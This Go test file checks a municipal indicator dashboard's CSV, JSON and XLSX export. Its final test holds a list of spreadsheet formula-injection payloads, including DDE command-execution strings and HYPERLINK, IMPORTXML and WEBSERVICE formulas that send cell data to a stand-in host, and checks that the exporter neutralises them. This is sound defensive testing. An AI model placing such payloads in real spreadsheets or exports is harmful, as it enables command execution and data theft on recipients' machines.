package sheet_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"landmark/internal/landmark"
	"landmark/internal/sheet"
)

var shanghai = time.FixedZone("CST", 8*3600)

// seedBoard is September 2023 of the seed plan with a few values.
func seedBoard(t testing.TB) landmark.Board {
	t.Helper()
	plan := seedPlan(t)
	r := &landmark.Record{
		Plan: plan, Zone: shanghai, AsOf: time.Date(2023, 10, 12, 9, 30, 0, 0, shanghai),
		Values: map[int64][]landmark.Value{}, Reports: map[int64][]landmark.Report{}, Overrides: map[int64][]landmark.Override{},
	}
	ids := map[string]int64{}
	for i, ind := range plan.Indicators() {
		ind.ID = int64(i + 1)
		ids[ind.Code] = ind.ID
	}
	sep := landmark.MonthOf(2023, 9)
	approved := time.Date(2023, 10, 11, 1, 5, 0, 0, time.UTC)
	value := func(code string, m landmark.Month, amount, step string) {
		v := landmark.Value{Month: m, Step: step, Revision: 1, ApprovedAt: approved}
		if amount != "" {
			v.Amount = decimal.NewNullDecimal(dec(amount))
		}
		r.Values[ids[code]] = append(r.Values[ids[code]], v)
	}
	report := func(code string, state landmark.State, revision int) {
		r.Reports[ids[code]] = []landmark.Report{{Month: sep, State: state, Revision: revision}}
	}
	value("3.1", sep, "13820", "")
	report("3.1", landmark.StateApproved, 1)
	value("3.3", sep, "7", "推进中")
	report("3.3", landmark.StateSubmitted, 2)
	value("7.2", sep, "17.50", "") // below its baseline: a negative gap and distance
	value("3.2", sep-1, "0", "")
	report("3.2", landmark.StateDraft, 0)
	value("6.1", sep, "1", "")
	r.Overrides[ids["6.1"]] = []landmark.Override{{From: sep, Until: sep, Light: landmark.OnTrack, Reason: "=验收已排期"}}
	return r.Board(sep)
}

func TestWriteIndicatorsCSV(t *testing.T) {
	t.Parallel()
	board := seedBoard(t)
	var out bytes.Buffer
	if err := sheet.WriteIndicatorsCSV(&out, board); err != nil {
		t.Fatal(err)
	}
	text, marked := strings.CutPrefix(out.String(), "\ufeff")
	if !marked || strings.Count(text, "\n") != strings.Count(text, "\r\n") {
		t.Error("want a byte order mark and CRLF throughout")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	const header = "project,project_name,code,name,key,lead,kind,direction,unit,baseline,target,value,value_month,completion_pct,schedule_pct,expected,gap_points,light,override,explanation,report_state,revision,approved_at,computed_light"
	if got := strings.Join(rows[0], ","); got != header || len(rows) != 31 {
		t.Errorf("got %d rows headed %s", len(rows), got)
	}
	got := map[string]string{}
	for i, row := range rows[1:] {
		if want := board.Assessments()[i].Explanation(); row[19] != want || want == "" {
			t.Errorf("%s: explanation %q, want %q", row[2], row[19], want)
		}
		row[19] = ""
		got[row[2]] = strings.Join(row, ",")
	}
	for code, want := range map[string]string{
		"1.2":  "1,桐享 优育,1.2,人口出生率,yes,卫健局,qualitative,up,‰,5.48,降幅趋缓,,,,,,,not_due,,,,,,not_due",
		"3.1":  "3,桐享 健康,3.1,结直肠癌筛查,no,卫健局,flow,up,人,41152,20000,13820,2023-09,69.1,75.0,15000,-5.9,behind,,,approved,1,2023-10-11T09:05:00+08:00,behind",
		"3.2":  "3,桐享 健康,3.2,流感疫苗接种,no,卫健局,flow,up,万人,2,2,0,2023-08,,75.0,1.5,,unreported,,,draft,,2023-10-11T09:05:00+08:00,unreported",
		"3.3":  "3,桐享 健康,3.3,新冠疫情重点药品和重点抢救设备供给,no,卫健局,qualitative,up,,,到位,推进中,2023-09,,,,,on_track,,,submitted,2,2023-10-11T09:05:00+08:00,on_track",
		"6.1":  "6,共同富裕现代化基本单元,6.1,未来社区建成数量,yes,建设局,cumulative,up,个,0,3,1,2023-09,33.3,75.0,2.25,-41.7,on_track,'=验收已排期,,,,2023-10-11T09:05:00+08:00,critical",
		"7.2":  "7,高校毕业生高质量就业创业服务体系,7.2,桐乡籍大学生“学子码”覆盖率,no,人社局,level,up,%,20,50,17.50,2023-09,,75.0,42.5,-83.3,critical,,,,,2023-10-11T09:05:00+08:00,critical",
		"10.2": "10,交通强市,10.2,农村公路优良中等路率,no,交通运输局,level,up,%,82.80,85,,,,75.0,84.45,,not_due,,,,,,not_due",
	} {
		if diff := cmp.Diff(want, got[code]); diff != "" {
			t.Errorf("%s (-want +got):\n%s", code, diff)
		}
	}
}

func TestIndicatorRowsJSON(t *testing.T) {
	t.Parallel()
	rows := sheet.IndicatorRows(seedBoard(t))
	text, err := json.Marshal(rows)
	if err != nil {
		t.Fatal(err)
	}
	var fields []map[string]json.RawMessage
	if err := json.Unmarshal(text, &fields); err != nil {
		t.Fatal(err)
	}
	if len(fields) != 30 || len(fields[0]) != 24 {
		t.Errorf("got %d rows of %d fields, want 30 of 24", len(fields), len(fields[0]))
	}
	last := fields[29]
	for name, want := range map[string]string{
		"baseline": "82.80", "target": "85", "value": "null", "key": "false", "kind": `"level"`, "revision": "null", "report_state": "null",
		"completion_pct": "null", "schedule_pct": "75.0", "expected": "84.45", "override": "null", "code": `"10.2"`,
	} {
		if got := string(last[name]); got != want {
			t.Errorf("10.2 %s: got %s, want %s", name, got, want)
		}
	}
	if got := string(fields[1]["target"]); got != `"降幅趋缓"` {
		t.Errorf("1.2 target: got %s", got)
	}
	if got := string(fields[14]["override"]); fields[14]["code"] == nil || got != `"=验收已排期"` {
		t.Errorf("6.1 override: got %s; JSON needs no quote against formulas", got)
	}
	var again []sheet.IndicatorRow
	if err := json.Unmarshal(text, &again); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(rows, again); diff != "" {
		t.Errorf("rows read again (-first +again):\n%s", diff)
	}
}

func TestWriteIndicatorsXLSX(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	if err := sheet.WriteIndicatorsXLSX(&out, seedBoard(t)); err != nil {
		t.Fatal(err)
	}
	for name, part := range unpacked(t, out.Bytes()) {
		if strings.Contains(part, "<f>") {
			t.Errorf("%s holds a formula", name)
		}
	}
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("指标", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 32 {
		t.Fatalf("got %d rows, want title, headings and 30", len(rows))
	}
	screening := rows[7]
	screening[16] = ""
	want := []string{"3.1", "桐享 健康", "卫健局", "结直肠癌筛查", "当年累计", "人", "41152", "20000", "13820", "2023-09", "69.1", "75.0", "15000", "-5.9", "滞后", "", ""}
	if diff := cmp.Diff(want, screening); diff != "" {
		t.Errorf("3.1 (-want +got):\n%s", diff)
	}
	if kind, err := f.GetCellType("指标", "I8"); err != nil || kind == excelize.CellTypeSharedString {
		t.Errorf("a figure is stored as text (%v, %v)", kind, err)
	}
	if shown, err := f.GetCellValue("指标", "L8"); err != nil || shown != "75.0" {
		t.Errorf("the schedule shows as %q (%v), want 75.0", shown, err)
	}
	props, err := f.GetSheetProps("指标")
	if err != nil {
		t.Fatal(err)
	}
	if props.FitToPage == nil || !*props.FitToPage {
		t.Error("the sheet is not fitted to the page's width")
	}
	if got := rows[16][15]; got != "=验收已排期" {
		t.Errorf("6.1 override: got %q", got)
	}
}

// injections are cells that spreadsheets have been made to run.
var injections = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://x.example/?x="&A1,"看")`, `=IMPORTXML(CONCAT("http://x.example/",A1),"//a")`,
	`=WEBSERVICE("http://x.example/"&A1)`, `=DDE("cmd";"/C calc";"x")`, `=2+5+cmd|' /C calc'!A0`, `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
	`=SUM(1+1)*cmd|' /C calc'!A0`, `=A1`, `=`, `==1`, `="a"`, `=-1`,
	`+1+1`, `+cmd|' /C calc'!A0`, `+SUM(A1:A9)`, `+1`, `+`, `+86 573`,
	`-1+1`, `-2+3+cmd|' /C calc'!A0`, `-A1`, `-`, `--1`, `-1e5`,
	`@SUM(1+1)*cmd|' /C calc'!A0`, `@A1`, `@`,
	"\t=1+1", "\tcmd", "\r=1+1", "\n=1+1", "\ncmd",
	`＝1+1`, `＝cmd|' /C calc'!A0`, `＋1+1`, `－1+1`, `＠SUM(1)`,
	` =1+1`, "\u3000=1+1", "\u00a0@A1",
}

func TestInjection(t *testing.T) {
	t.Parallel()
	if len(injections) < 40 {
		t.Fatalf("only %d payloads", len(injections))
	}
	for _, payload := range injections {
		board := seedBoard(t)
		for _, a := range board.Assessments()[:1] {
			ind := a.Indicator
			ind.Name, ind.Unit, ind.Project.Name, ind.Project.Lead.Name = payload, payload, payload, payload
			ind.BaselineText, ind.Baseline = payload, decimal.NullDecimal{}
			ind.Targets[0] = landmark.Target{Text: payload}
			ind.Kind, ind.Measured = landmark.Qualitative, landmark.Monthly
			board.Record.Values[ind.ID] = []landmark.Value{{Month: board.Month, Step: payload}}
			board.Record.Overrides[ind.ID] = []landmark.Override{{From: board.Month, Until: board.Month, Light: landmark.OnTrack, Reason: payload}}
		}
		var out bytes.Buffer
		if err := sheet.WriteIndicatorsCSV(&out, board.Record.Board(board.Month)); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", payload, err)
		}
		hits := 0
		for _, row := range rows[1:] {
			for i, cell := range row {
				lead := strings.TrimLeft(cell, " \u00a0\u3000")
				if lead == "" || !strings.ContainsAny(lead[:1], "=+-@\t\r\n") && !strings.HasPrefix(lead, "＝") &&
					!strings.HasPrefix(lead, "＋") && !strings.HasPrefix(lead, "－") && !strings.HasPrefix(lead, "＠") {
					if strings.HasPrefix(cell, "'") {
						hits++
					}
					continue
				}
				if _, err := decimal.NewFromString(cell); err != nil || cell[0] != '-' || strings.ContainsAny(cell, "eE") {
					t.Errorf("%q: column %s holds live text %q", payload, rows[0][i], cell)
				}
			}
		}
		// project, name, lead, unit, target, value and override, and the project's other line
		if hits < 7 && payload != "-" { // "-" alone is a printed nothing
			t.Errorf("%q: only %d cells made harmless", payload, hits)
		}
	}
	t.Logf("P27 live text in a table | %d rounds | 0 cells live", len(injections))
}
